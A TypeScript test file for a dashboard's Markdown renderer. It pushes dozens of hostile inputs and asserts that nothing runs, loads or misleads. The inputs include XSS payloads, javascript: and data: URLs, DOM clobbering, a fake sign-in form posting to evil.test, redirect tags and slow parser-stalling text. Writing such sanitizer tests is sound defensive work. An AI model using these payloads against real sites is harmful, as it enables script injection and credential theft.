import { beforeAll, expect, test } from 'vitest';
import { describeDashboard } from '../support/dashboard/describe-dashboard.ts';
import { harmfulElements } from '../support/dashboard/harmful-elements.ts';
import { item } from '../support/http/api.ts';
import { newTeam, type TeamClients } from '../support/http/key-holder.ts';

const limits = { timeout: 90_000 };

/** Markdown that would run, load, send, frame, cover or rename something of the page, or lead where nobody wants to go. */
const texts = [
  '<script>hacked=1</script>',
  '<img src=x onerror="hacked=1">',
  '<svg onload="hacked=1"><script>hacked=1</script></svg>',
  '<iframe src="javascript:hacked=1"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="/healthz"></object><embed src="/healthz">',
  '<link rel="stylesheet" href="https://evil.test/x.css"><style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">over everything</p>',
  '<form action="https://evil.test"><input name="key"><button>Sign in</button></form>',
  '<input type="image" src="https://evil.test/x.png"><input type="text" autofocus onfocus="hacked=1">',
  '<a id="main" name="location" href="#">clobber</a><p id="pages">clobber</p>',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<video src="https://evil.test/v" autoplay></video><audio src="https://evil.test/a"></audio>',
  '<math><mtext><table><mglyph><style><img src=x onerror="hacked=1">',
  '<noscript><p title="</noscript><img src=x onerror=hacked=1>">',
  '<template><img src=x onerror="hacked=1"></template><dialog open>Sign in</dialog>',
  '<details open ontoggle="hacked=1"><summary>x</summary></details><marquee onstart="hacked=1">',
  '<a href="javascript:hacked=1">one</a> <a href="JaVaScRiPt&colon;hacked=1">two</a>',
  '[x](javascript:hacked=1) [y](<java\tscript:hacked=1>) [z](&#106;avascript:hacked=1)',
  '[x](data:text/html,<script>hacked=1</script>) [y](vbscript:hacked) [z](blob:x) [f](file:///etc/passwd)',
  '![x](javascript:hacked=1) ![y](data:image/svg+xml,<svg/onload=hacked=1>) ![z](https://evil.test/p.png)',
  '![x](//evil.test/p.png) ![](\\\\evil.test\\p.png) ![](https://evil.test/"onerror="hacked=1)',
  '<picture><source srcset="https://evil.test/p.png"><img srcset="https://evil.test/q.png 2x"></picture>',
  '[x]: javascript:hacked=1\n\n[x] and ![x]',
  '<https://evil.test/?"onmouseover="hacked=1> <javascript:hacked=1>',
  '[sign in](/sign-in#tmsl_stolen) [again](//evil.test/sign-in) [up](../../../../sign-in)',
  '[out](/session) [api](/api/v1/items) [rpc](/rpc/x) [x](\\\\evil.test) [y](/\\evil.test)',
  '# <img src=x onerror=hacked=1>\n\n# location\n\n# __proto__\n\n# constructor\n\n# constructor',
  '<div data-line="1" aria-hidden="true" role="alert" class="x" tabindex="1" contenteditable accesskey="s">x</div>',
  '| <img src=x onerror=hacked=1> | <script>hacked=1</script> |\n|---|---|\n| `</td><script>hacked=1</script>` | x |',
  '```js"><script>hacked=1</script>\n</code></pre><script>hacked=1</script>\n```',
  '<p data-task="done" role="img" aria-label="done">x</p>',
  '- [x] <input type="checkbox" checked onclick="hacked=1"> x\n- [ ] <select autofocus onfocus="hacked=1"><option>x',
  '<!--><script>hacked=1</script>--> <!-- --!><script>hacked=1</script> -->',
  '<![CDATA[<script>hacked=1</script>]]> <?xml-stylesheet href="https://evil.test/x"?>',
  '<a href="https://evil.test" target="_self" ping="https://evil.test/p" download>x</a>',
  '<a xlink:href="javascript:hacked=1" formaction="javascript:hacked=1">x</a><button formaction="javascript:hacked=1">y</button>',
  '<img src="x` `<script>hacked=1</script>"` `> <scr<script>ipt>hacked=1</scr</script>ipt>',
  '[a](https://evil.test "\\" onclick=\\"hacked=1") [b](<https://evil.test> \'" onclick="hacked=1\')',
  '<body onload="hacked=1"><html onclick="hacked=1"><head><title>Not this page</title></head>',
  '<p><p><table><td><svg><desc><td><style></desc></svg><img src=x onerror="hacked=1">',
  `${'> '.repeat(3_000)}<img src=x onerror=hacked=1>`,
  `${'<b>'.repeat(2_000)}<img src=x onerror=hacked=1>`,
  `${'['.repeat(20_000)}](javascript:hacked=1)`,
  '\u0000<scr\u0000ipt>hacked=1</script>\u2028<img src=x onerror\u000b=hacked=1>',
];

describeDashboard('Markdown that somebody wrote to do harm', (dashboard) => {
  let team: TeamClients;
  beforeAll(async () => {
    team = await newTeam(dashboard().service);
    for (const [number, text] of texts.entries()) {
      const wanted = item(`texts/${number}.md`, `# Text ${number}\n\n${text}\n`, {
        frontmatter: { title: `Text number ${number}` },
      });
      expect((await team.team.push(wanted)).body).toMatchObject({ rejected: 0 });
    }
  }, limits.timeout);

  test(
    'is shown, and runs nothing, loads nothing, covers nothing and leads nowhere that changes something',
    limits,
    async () => {
      expect(texts.length).toBeGreaterThanOrEqual(40);
      const visit = await dashboard().visit({ key: team.teamKey, path: '/memory/texts' });
      const { page } = visit;
      const article = page.getByRole('article');
      for (const [number, text] of texts.entries()) {
        // Inside the page, as a person goes from one to the next.
        await page.evaluate(`history.pushState(null, '', '/memory/texts/${number}.md')`);
        await page.getByRole('heading', { level: 1, name: `Text number ${number}`, exact: true }).waitFor();
        const shown = article.locator('[class*="markdown"]');
        await shown.getByText(`Text ${number}`, { exact: false }).first().waitFor();
        expect(await harmfulElements(shown), text.slice(0, 100)).toEqual([]);
        expect(await shown.evaluate(faultsOf), text.slice(0, 100)).toEqual([]);
      }
      expect(await page.evaluate('typeof hacked')).toBe('undefined');
      expect(await page.title()).toContain('Text number');
      expect(visit.faults()).toEqual([]);
    },
  );

  test(
    'is shown as it is when it is made to take seconds, while the page and other texts go on',
    limits,
    async () => {
      const slow = ['***a** ', '*a', `<div>\n<a${' '.repeat(64_000)}"\n\n\`\`a`].map((unit) =>
        unit.repeat(65_000 / unit.length),
      );
      const texts = [...slow.map((text) => `# Slow\n\n${text}`), '# Quick\n\n**bold**'];
      await team.team.push(...texts.map((text, number) => item(`slow/${number}.md`, text)));
      const { page } = await dashboard().visit({ key: team.teamKey, path: '/memory/slow' });
      for (const number of [0, 1]) {
        await page.evaluate(`history.pushState(null, '', '/memory/slow/${number}.md')`);
        await page.getByText('too slow to be laid out').waitFor();
        await page.evaluate(`history.pushState(null, '', '/memory/slow/3.md')`);
        await page.locator('strong', { hasText: 'bold' }).waitFor();
      }
      await page.evaluate(`history.pushState(null, '', '/memory/slow/2.md')`);
      await page.getByRole('article').getByText('Slow', { exact: true }).first().waitFor();
    },
  );

  test(
    'cannot take the place of a line to which a link leads, and its relative links lead to items',
    limits,
    async () => {
      const content = [
        '# Plan',
        '',
        '<p data-line="6">not this</p>',
        '',
        '- [ ] first',
        '- [ ] second [map](../maps/sea%20map.md#the-coast)',
        '  - [ ] nested',
      ].join('\n');
      await team.team.push(
        item('plans/tasks.md', content),
        item('maps/sea map.md', `${'Water.\n\n'.repeat(60)}## The coast\n\nRocks.\n`),
      );
      const { page } = await dashboard().visit({ key: team.teamKey, path: '/memory/plans/tasks.md#L6' });
      const marked = page.locator('[data-marked]');
      await marked.waitFor();
      expect(await marked.textContent()).toContain('second');
      await page.getByRole('link', { name: 'map' }).click();
      await page.getByText('Rocks.').waitFor();
      expect(new URL(page.url()).pathname).toBe('/memory/maps/sea%20map.md');
      expect(await page.locator('#text-the-coast').textContent()).toBe('The coast');
    },
  );
});

/** What text must not bring besides harmful elements: names that pages use, and links to what changes something. */
// biome-ignore lint/suspicious/noExplicitAny: an element of the browser, whose types are not those of Node
function faultsOf(root: any): string[] {
  const { origin } = root.ownerDocument.defaultView.location;
  const faults: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const { id, outerHTML } = element;
    if (id !== '' && !id.startsWith('text-')) faults.push(`id ${id}`);
    // The page itself says so of the state of a task, in an attribute that no text can have.
    for (const name of [
      'name',
      'class',
      'role',
      'tabindex',
      'ping',
      'download',
      'contenteditable',
      'accesskey',
    ])
      if (element.hasAttribute(name) && element.tagName !== 'PRE' && element.dataset.task === undefined)
        faults.push(`${name}: ${outerHTML.slice(0, 100)}`);
    if (!element.hasAttribute('href')) continue;
    const isOwn = element.origin === origin;
    if (isOwn && !element.pathname.startsWith('/memory/')) faults.push(`leads to ${element.href}`);
    if (!isOwn && (element.target !== '_blank' || !/noopener.*noreferrer/.test(element.rel)))
      faults.push(`foreign link ${outerHTML.slice(0, 100)}`);
  }
  return faults;
}
